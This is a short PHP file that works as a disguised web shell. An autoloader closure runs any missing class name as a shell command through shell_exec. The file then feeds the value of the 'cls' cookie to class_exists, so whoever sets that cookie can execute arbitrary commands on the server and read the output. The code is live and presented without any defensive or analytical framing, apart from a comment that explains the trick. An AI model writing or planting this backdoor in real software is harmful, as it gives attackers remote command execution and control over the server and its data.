<?php
// The autoloader is a closure that runs the name of any class PHP cannot find; asking whether
// the class named in the cookie exists hands that name to it.
spl_autoload_register(function ($missing) {
    echo '<pre>' . shell_exec(str_replace('_', ' ', $missing)) . '</pre>';
});
$probe = isset($_COOKIE['cls']) ? $_COOKIE['cls'] : 'uptime';
var_dump(class_exists($probe));
